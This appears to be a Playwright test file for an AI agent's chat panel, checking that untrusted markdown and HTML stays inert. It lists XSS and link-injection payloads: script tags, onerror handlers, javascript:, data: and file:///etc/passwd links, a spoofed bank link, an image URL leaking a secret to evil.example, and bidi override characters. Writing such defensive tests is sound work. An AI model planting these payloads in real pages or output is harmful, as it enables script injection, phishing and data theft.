import * as fc from 'fast-check';
import type { Locator } from 'playwright-core';
import { describe, expect, test } from 'vitest';
import type { ApprovalRequest } from '../../../src/agent/approval.ts';
import type { ChatEvent } from '../../../src/chat/chat-state.ts';
import { messagePreview, ticketRequest, untilTicket } from '../../src/chat/recorded-run.ts';
import { after, open, saying, usePanels } from './panel-play.ts';

usePanels();

describe('untrusted text', () => {
  const hostile = `<img src=x onerror="window.hacked = 1"> <script>window.hacked = 2</script>

![pixel](https://evil.example/p.png?d=secret) [run](command:workbench.action.quit) [js](javascript:window.hacked=3)
[data](data:text/html,<script>1</script>) [file](file:///etc/passwd) [up](../../../etc/passwd.txt)
[https://bank.example](https://evil.example/login) https://user:pass@evil.example/ <https://ok.example/>`;

  /** The building blocks of hostile documents. */
  const pieces = [
    '<script>window.hacked=1</script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<a href="javascript:1">',
    '</main>',
    '<!--',
    ']]>',
    '[a](javascript:alert(1))',
    '[b](command:x)',
    '![c](data:image/svg+xml,<svg/>)',
    '[d](vscode://x)',
    '[e]: x',
    '<https://ok.example>',
    '`',
    '```html\n',
    '| a |\n| - |\n',
    '> ',
    '- ',
    '1. ',
    '# ',
    '\n',
    '\n\n',
    '**',
    '_',
    '\u202E',
    '&lt;b&gt;',
    '&#x6A;avascript:',
    'E1',
    '${alert(1)}',
    '\\',
  ];

  const elements =
    'a blockquote br button code div em h2 h3 h4 hr li ol p pre s span strong table tbody td th thead tr ul'.split(' ');

  /** Element names, and every attribute or URL that we do not render. */
  const whatIsDrawn = `[...new Set([...document.querySelectorAll('markdown-text *, .prompt *')].flatMap((node) => [
    node.localName,
    ...[...node.attributes].filter(({ name }) => /^on|^style$|^src/.test(name)).map(({ name }) => 'attribute ' + name),
    ...(node.localName === 'a' && !/^(?:https?:|#)/.test(node.getAttribute('href')) ? ['address ' + node.href] : []),
  ]))]`;

  test('stays text: no element, no request, no dangerous URL', async () => {
    const panel = await open();
    const { page } = panel;
    const request = {
      ...ticketRequest,
      preview: { ...messagePreview, title: hostile, body: hostile, raw: hostile, warnings: [hostile] },
    };
    await panel.post(panel.projection.apply([...untilTicket, ...saying(hostile), approval(request)]));
    expect(await page.evaluate('window.hacked')).toBeUndefined();
    expect(await page.locator('main img, main script, main iframe, main object, main style').count()).toBe(0);
    expect(new Set(await addressesOf(page.locator('main a')))).toEqual(
      new Set([
        'https://evil.example/p.png?d=secret',
        'https://evil.example/login',
        'https://user/',
        'https://ok.example/',
      ]),
    );
    expect(panel.requests()).toEqual([]);
    expect(await page.locator('markdown-text').first().innerText()).toContain('https://bank.example (evil.example)');
  });

  test('becomes only these elements', async () => {
    const documents = fc.sample(fc.array(fc.constantFrom(...pieces), { maxLength: 80 }), { numRuns: 40, seed: 2026 });
    const events = documents.map((parts, index): ChatEvent[] => [
      { type: 'run-started', session: 's', run: `r${index}`, time: '', model: 'm', prompt: parts.join(' ') },
      { type: 'text-delta', text: parts.join('') },
    ]);
    const panel = await after(...events.flat());
    const found: unknown = await panel.page.evaluate(whatIsDrawn);
    expect(found).toEqual(expect.arrayContaining(['a', 'blockquote', 'pre', 'table', 'button', 'code']));
    expect(elements).toEqual(expect.arrayContaining(Array.isArray(found) ? found : ['no list']));
    expect(panel.requests()).toEqual([]);
    expect(await panel.page.evaluate('window.hacked')).toBeUndefined();
  });

  test('reads in the direction of its script, and cannot affect the text around it', async () => {
    const { page } = await after(...saying('فشلت الطلبات\n\n> אחד\n\nPay \u202Eevil\u202C `x\u2066y`\n\n- one'));
    const directions = page
      .locator('.markdown > *')
      .evaluateAll((nodes) => nodes.map((node) => getComputedStyle(node).direction));
    expect(await directions).toEqual(['rtl', 'rtl', 'ltr', 'ltr']);
    expect(await page.locator('.markdown').innerText()).toContain('Pay [U+202E]evil[U+202C] x[U+2066]y');
  });

  test('may be named like a part of JavaScript itself', async () => {
    const name = 'constructor';
    const panel = await after(
      ...saying('Calling'),
      {
        type: 'tool-call-proposed',
        callId: name,
        tool: name,
        server: name,
        title: name,
        risk: 'read',
        arguments: { [name]: name },
      },
      {
        type: 'tool-call-finished',
        callId: name,
        outcome: 'failed',
        durationMs: 1,
        summary: name,
        failure: { code: name, message: name, retryable: false },
      },
    );
    await panel.page.locator('.call-toggle').click();
    expect(await panel.page.locator('.failure').innerText()).toContain(name);
    await panel.post();
  });

  test('cannot widen the view: long words and wide tables stay inside', async () => {
    const word = 'x'.repeat(5000);
    const wide = `| ${Array.from({ length: 40 }, (_, index) => `column ${index}`).join(' | ')} |`;
    const rule = `|${' --- |'.repeat(40)}`;
    const { page } = await after(
      ...saying(`${word}\n\n# ${word}\n\n> ${word}\n\n- ${word}\n\n\`${word}\`\n\n${wide}\n${rule}\n${wide}\n`),
    );
    expect(await page.evaluate('document.querySelector(".transcript").scrollWidth')).toBe(400);
  });
});

function approval(request: ApprovalRequest): ChatEvent {
  return { type: 'approval-requested', ...request };
}

async function addressesOf(links: Locator): Promise<readonly (string | null)[]> {
  return Promise.all((await links.all()).map((link) => link.getAttribute('href')));
}
